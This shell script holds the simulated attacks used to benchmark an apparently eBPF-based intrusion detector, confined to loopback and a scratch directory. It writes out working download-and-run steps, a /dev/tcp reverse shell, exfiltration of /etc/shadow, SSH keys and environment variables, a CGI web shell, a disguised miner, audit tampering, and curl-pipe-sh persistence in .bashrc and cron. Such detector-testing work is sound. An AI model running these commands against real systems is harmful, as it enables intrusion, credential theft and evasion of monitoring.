# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
# attacks.sh: the attacks of the detector's evaluation, sourced by
# bench/detect/workload.sh inside an audited container. Each function
# attack_NAME DIR APORT WPORT does what an intruder does, harmlessly: only
# loopback (the attacker's server bench/detect/attacker.py listens on APORT,
# HTTP, and APORT+1, a shell listener), only files under DIR, and attempts
# on the audit itself that the container's missing capabilities refuse (on
# the trace backend they are recorded, never denied by sabpf). WPORT is the
# workload's own server (the web shell uses it).

# download a tool over HTTP and run it
attack_dropexec() {
  local d=$1/.cache/.x
  mkdir -p "$d"
  curl -s -o "$d/upd" "http://127.0.0.1:$2/payload" || busybox wget -q -O "$d/upd" "http://127.0.0.1:$2/payload"
  chmod +x "$d/upd"
  "$d/upd" "$d"
}

# a reverse shell: the attacker's listener sends commands over TCP
attack_revshell() {
  bash -c "exec 3<>/dev/tcp/127.0.0.1/$(($2 + 1)); sh -i <&3 >&3 2>&3"
}

# read credentials and send them out
attack_credexfil() {
  local f=$1/.c
  cat /etc/passwd /etc/group /etc/shadow "$HOME/.ssh/id_rsa" "$HOME/.bash_history" >"$f" 2>/dev/null
  env >>"$f"
  gzip -c "$f" | curl -s -X POST --data-binary @- "http://127.0.0.1:$2/upload"
  rm -f "$f"
}

# a web shell dropped into the server's CGI directory, then used through it
attack_webshell() {
  local cgi=$1/www/cgi-bin
  [ -d "$cgi" ] || mkdir -p "$cgi"
  printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\nsh -c "$(echo "$QUERY_STRING" | sed "s/+/ /g;s/%%20/ /g")" 2>&1\n' >"$cgi/img.cgi"
  chmod +x "$cgi/img.cgi"
  local c
  for c in id uname+-a cat+/etc/passwd ls+-la+/ ps; do
    curl -s -o /dev/null "http://127.0.0.1:$3/cgi-bin/img.cgi?$c"
  done
}

# a crypto-miner: a renamed binary dropped in a hidden directory, reading
# the CPU's description, contacting its pool, then spinning on the CPU
attack_miner() {
  local d=$1/.cache/.m
  mkdir -p "$d"
  cp /bin/busybox "$d/kworkerd"
  printf '{"pool":"127.0.0.1:%s","threads":1}\n' "$2" >"$d/config.json"
  cat /proc/cpuinfo /sys/devices/system/cpu/online >/dev/null 2>&1
  curl -s -o /dev/null "http://127.0.0.1:$2/pool?worker=x"
  "$d/kworkerd" sh -c 'i=0; while [ $i -lt 150000 ]; do i=$((i+1)); done'
}

# tampering with the audit: the agent's cgroup, bpffs, the process list
attack_tamper() {
  local cg
  for cg in /sys/fs/cgroup/unified /sys/fs/cgroup; do
    [ -d "$cg" ] || continue
    echo $$ >"$cg/cgroup.procs"
    echo $$ >"$cg/sabpf/cgroup.procs"
    echo 1 >"$cg/sabpf/cgroup.kill.test"
    ls "$cg/sabpf" >/dev/null
  done
  ls -la /sys/fs/bpf >/dev/null
  echo x >/sys/fs/bpf/sabpf-eval-tamper
  mkdir -p "$1/bpf" && mount -t bpf bpf "$1/bpf"
  umount /sys/fs/cgroup/unified
  cat /proc/1/status /proc/1/cgroup >/dev/null
}

# persistence: a startup file that fetches and runs the attacker's code
attack_persist() {
  local h=$HOME
  mkdir -p "$h" "$1/etc/cron.d"
  echo "curl -s http://127.0.0.1:$2/payload | sh >/dev/null 2>&1 &" >>"$h/.bashrc"
  echo "* * * * * root curl -s http://127.0.0.1:$2/payload | sh" >"$1/etc/cron.d/update"
  cp "$h/.bashrc" "$h/.profile"
  chmod 644 "$h/.profile" "$1/etc/cron.d/update"
}
